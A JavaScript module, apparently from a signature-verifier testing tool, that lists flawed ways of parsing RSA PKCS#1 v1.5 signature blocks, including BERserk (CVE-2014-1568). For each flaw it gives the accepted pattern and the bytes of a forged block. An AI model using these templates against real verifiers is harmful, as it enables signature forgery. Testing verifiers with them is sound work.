// SPDX-License-Identifier: MIT
/** What careless verifiers take for the block of a signature. */
import { INFO } from "../shared/numbers.mjs";

const START = `0001${"ff".repeat(8)}00`;
const STARTS = "^0001(ff){8,}00";
const OID = INFO.slice(8, 30);
const NULL = "0500";
/** @param {string} tag @param {number} n @returns {string} its header in DER, with two bytes of length */
const header = (tag, n) => `${tag}82${n.toString(16).padStart(4, "0")}`;

/**
 * What each careless verifier takes; and the start and the end of a forged
 * block, for a hash and the length of n, both in hexadecimal.
 *
 * @type {Record<string, (hash: string, k: number) => false | [takes: string, start: string, end: string]>}
 */
export const CARELESS = {
  "what follows the hash does not count": (hash) => [
    `${STARTS}${INFO}${hash}`,
    `${START}${INFO}${hash}`,
    "",
  ],
  "neither what follows the hash nor the length of the padding counts": (
    hash,
  ) => [`^0001(ff)*00${INFO}${hash}`, `000100${INFO}${hash}`, ""],
  "a hash counts without its name, whatever follows it": (hash) => [
    `${STARTS}${hash}`,
    `${START}${hash}`,
    "",
  ],
  "padding may be any bytes but zero": (hash) => [
    `^0001((?!00)..)*00${INFO}${hash}$`,
    "0001",
    `00${INFO}${hash}`,
  ],
  "parameters of the hash's name may be anything": (hash, k) => [
    `${STARTS}3082....3082....${OID}(..)*0420${hash}$`,
    START + header("30", k - 15) + header("30", k - 53) + OID,
    `0420${hash}`,
  ],
  "the hash's name may be any": (hash, k) => [
    `${STARTS}3082....3082....0682....(..)*${NULL}0420${hash}$`,
    START + header("30", k - 15) + header("30", k - 53) + header("06", k - 59),
    `${NULL}0420${hash}`,
  ],
  // CVE-2014-1568, BERserk: they overflow, so that what is left is right.
  "lengths may have any number of bytes": (hash, k) =>
    k === 256 && [
      `${STARTS}30ff(..){127}30c3(..){67}${OID}${NULL}0420${hash}$`,
      `${START}30ff`,
      `${OID}${NULL}0420${hash}`,
    ],
  "only the end of the block counts": (hash) => [
    `${INFO}${hash}$`,
    "",
    `${INFO}${hash}`,
  ],
};
